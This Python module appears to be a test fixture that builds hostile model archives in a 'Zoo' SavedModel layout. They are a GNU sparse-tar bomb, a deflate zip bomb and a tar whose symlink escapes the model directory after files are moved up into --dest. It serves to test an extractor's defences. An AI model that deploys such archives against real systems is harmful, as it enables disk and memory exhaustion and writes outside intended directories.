"""Model archives an attacker would publish, built the way an attacker builds them (GNU tar,
zipfile), each with the Zoo layout so it gets past "is this a model?" and reaches the unpacking.

- `sparse_tar`: GNU tar's --sparse of a file that is almost all hole: tens of KB on the wire,
  GiB of zeros when a naive extractor fills the holes.
- `zip_bomb`: deflated zeros, about 1000x smaller than what they expand to.
- `escaping_link_tar`: a relative link inside the Zoo folder that stays inside the unpack root
  (so extraction-time checks pass) but points above the model directory once the folder's
  contents are moved up into --dest.
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import tarfile
import zipfile
from pathlib import Path

GiB = 1 << 30
MiB = 1 << 20
# Where the Zoo keeps a model's files inside its archive: <name>/saved_model/...
ZOO_DIR = "evil/saved_model"


def _zoo_tree(model_dir: Path, root: Path) -> Path:
    """A copy of a real SavedModel at root/evil/saved_model (so it is a model in every other way)."""
    target = root / ZOO_DIR
    shutil.copytree(model_dir, target)
    return target


def sparse_tar(model_dir: Path, out: Path, *, expanded: int = 10 * GiB, data_blocks: int = 2) -> Path:
    """A GNU-format tar whose variables file is `expanded` bytes of which only `data_blocks` 4 KiB
    blocks hold data (the rest is hole), made by GNU tar itself with --sparse."""
    work = out.parent / f".{out.name}.staging"
    shutil.rmtree(work, ignore_errors=True)
    tree = _zoo_tree(model_dir, work)
    weights = tree / "variables" / "variables.data-00000-of-00001"
    weights.unlink()
    with open(weights, "wb") as f:
        for i in range(data_blocks):
            f.seek(i * (expanded // data_blocks))
            f.write(os.urandom(4096))
        f.truncate(expanded)
    subprocess.run(["tar", "--sparse", "--format=gnu", "-cf", str(out), "-C", str(work), "evil"], check=True)
    shutil.rmtree(work)
    return out


def zip_bomb(model_dir: Path, out: Path, *, expanded: int = 2 * GiB, members: int = 8) -> Path:
    """The model's real files plus `members` deflated members of zeros adding up to `expanded`."""
    zeros = bytes(MiB)
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for f in sorted(model_dir.rglob("*")):
            if f.is_file():
                zf.write(f, f"{ZOO_DIR}/{f.relative_to(model_dir)}")
        for i in range(members):
            with zf.open(f"{ZOO_DIR}/assets/padding-{i}.bin", "w", force_zip64=True) as member:
                for _ in range(expanded // members // MiB):
                    member.write(zeros)
    return out


def escaping_link_tar(model_dir: Path, out: Path, link_target: str) -> Path:
    """The Zoo layout plus `evil/saved_model/label_map.pbtxt -> link_target` (a relative path that
    climbs at most two levels: inside the unpack root while unpacking)."""
    with tarfile.open(out, "w:gz") as tar:
        for f in sorted(model_dir.rglob("*")):
            tar.add(f, f"{ZOO_DIR}/{f.relative_to(model_dir)}", recursive=False)
        link = tarfile.TarInfo(f"{ZOO_DIR}/label_map.pbtxt")
        link.type, link.linkname = tarfile.SYMTYPE, link_target
        tar.addfile(link, io.BytesIO())
    return out
